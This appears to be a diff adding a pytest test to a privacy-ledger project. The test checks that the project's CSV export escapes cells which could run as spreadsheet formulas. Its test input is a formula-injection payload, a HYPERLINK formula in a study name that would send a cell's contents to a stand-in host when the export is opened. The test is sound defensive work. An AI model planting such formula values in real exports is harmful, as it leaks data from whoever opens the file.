@@ -1,3 +1,5 @@
+import csv
+import io
 import json
 
 import pytest
@@ -23,3 +25,13 @@ def test_json_is_whole_and_of_one_moment(busy):
     assert (unbounded["epsilon"], unbounded["left"], unbounded["unit"]) == (None, None, "record")
     assert [entry["guarantee"]["epsilon"] for entry in document["entries"]] == [0.1, 2.0]
     assert document["entries"][0]["state"] == "released"
+
+
+def test_no_cell_of_the_csv_is_a_formula(ledger, tenth):
+    """Attack: a study whose name a spreadsheet computes when the officer opens the export."""
+    name = '=HYPERLINK("http://x/"&A1)'
+    ledger.charge("study", tenth, purpose="+1", key="@x", study=(name, "0" * 64))
+    ledger.refuse((name, "0" * 64), name="dpo", reason="-2")
+    for line in csv.reader(io.StringIO(ledger.to_csv())):
+        assert not [cell for cell in line if cell[:1] in ("=", "+", "-", "@")]
+        assert "'" + name in line or line[0] == "row"
